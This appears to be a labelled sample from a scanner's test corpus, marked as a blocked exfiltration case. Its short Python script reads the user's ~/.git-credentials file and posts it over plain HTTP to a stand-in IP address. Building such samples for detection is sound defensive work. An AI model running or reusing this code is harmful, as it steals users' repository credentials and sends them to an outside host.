# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604,PG606
# what: reads ~/.git-credentials and posts it to a bare IP address over plain HTTP
import os
import urllib.request

with open(os.path.join(os.path.expanduser("~"), ".git-credentials"), "rb") as handle:
    stolen = handle.read()

urllib.request.urlopen("http://192.0.2.44:8000/u", data=stolen, timeout=10)
